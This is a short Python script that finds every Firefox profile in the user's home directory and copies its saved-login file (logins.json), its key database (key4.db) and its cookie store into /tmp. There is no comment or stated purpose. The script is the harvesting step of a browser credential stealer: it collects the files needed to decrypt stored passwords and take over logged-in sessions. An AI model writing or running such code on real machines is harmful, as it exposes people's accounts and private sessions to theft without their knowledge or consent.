import glob
import os
import shutil

for profile in glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")):
    for name in ("logins.json", "key4.db", "cookies.sqlite"):
        shutil.copy(os.path.join(profile, name), f"/tmp/ff-{name}")
